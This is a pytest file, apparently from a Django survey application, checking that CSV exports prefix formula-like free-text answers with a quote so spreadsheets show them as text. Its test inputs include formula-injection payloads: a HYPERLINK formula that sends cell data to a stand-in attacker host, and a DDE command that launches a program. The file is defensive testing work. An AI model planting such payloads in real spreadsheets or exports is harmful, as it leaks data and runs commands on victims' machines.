"""CSV exports neutralise cells a spreadsheet would run as a formula (issue 13, item 6)."""

import csv
import io

import pytest

from engagement.spreadsheet_cells import neutralise
from surveys.answering import save_answers


@pytest.fixture
def superuser_client(client, django_user_model):
    client.force_login(django_user_model.objects.create_superuser("admin", "admin@example.com", "pw"))
    return client


@pytest.mark.parametrize(
    "typed",
    ['=HYPERLINK("https://evil.example/?"&A1,"help")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_free_text_answer_that_looks_like_a_formula_is_exported_as_text(superuser_client, nps, alice, send, typed):
    # Given a detractor whose "why" answer starts like a formula
    invitation = send(nps, alice).invitation
    score, why = nps.questions.order_by("position")[:2]
    assert why.is_followup
    save_answers(invitation, {score: 2, why: typed}, complete=True)

    # When the admin exports the responses
    reply = superuser_client.get(f"/admin/surveys/survey/{nps.pk}/report/responses.csv")

    # Then the cell starts with a quote (shown as text), and the typed text follows unchanged
    rows = list(csv.reader(io.StringIO(reply.content.decode("utf-8-sig"), newline="")))
    header, row = rows[0], rows[1]
    assert len(rows) == 2
    assert row[header.index("why")] == "'" + typed
    assert row[header.index("answers")] == f"{score.pk}=2 | {why.pk}={typed}"  # starts with a digit: harmless
    assert row[header.index("customer")] == "alice"


def test_plain_text_and_numbers_are_left_alone():
    assert [neutralise(v) for v in ["Great service", "", "a=b", 5, -3]] == ["Great service", "", "a=b", 5, -3]
